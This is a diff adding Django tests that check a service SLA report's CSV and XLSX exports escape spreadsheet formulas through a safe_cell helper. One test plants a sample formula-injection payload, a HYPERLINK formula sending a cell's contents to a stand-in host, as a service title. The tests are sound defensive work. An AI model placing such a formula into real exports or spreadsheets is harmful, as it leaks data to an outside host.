@@ -10,6 +10,8 @@ from django.urls import reverse
 from django.utils import timezone
 from wagtail.models import WorkflowState
 
+from cms.exports import safe_cell
+from services.models import ServicePage
 from tests.admin_forms import service_form_data
 
 pytestmark = pytest.mark.django_db
@@ -87,3 +89,43 @@ def test_closed_reviews_summary_and_exports(login, in_flight):
     book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
     assert book.sheetnames == ["Open reviews", "Closed reviews"]
     assert book["Closed reviews"].cell(row=2, column=2).value == 1
+
+
+FORMULA = '=HYPERLINK("https://x.example/?"&A1,"Avaa")'
+
+
+def test_exports_never_carry_a_formula(login, in_flight):
+    """A provider writes its service's title: in a spreadsheet it must stay text."""
+    _helsinki, espoo = in_flight
+    ServicePage.objects.filter(pk=espoo.pk).update(title=FORMULA)
+    client = login("yllapito-maintainer")
+    csv_rows = list(
+        csv.reader(
+            io.StringIO(
+                client.get(reverse("services_sla_report"), {"export": "csv"}).content.decode()
+            )
+        )
+    )
+    cells = [cell for row in csv_rows for cell in row if "HYPERLINK" in cell]
+    assert cells == ["'" + FORMULA]
+    xlsx = client.get(reverse("services_sla_report"), {"export": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content))["Open reviews"]
+    found = [c for row in sheet.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
+    assert [(c.value, c.data_type) for c in found] == [("'" + FORMULA, "s")]
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+358 40 123", "'+358 40 123"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("Työkokeilu", "Työkokeilu"),
+        (-2, -2),
+        (1.5, 1.5),
+    ],
+)
+def test_safe_cell(value, expected):
+    assert safe_cell(value) == expected
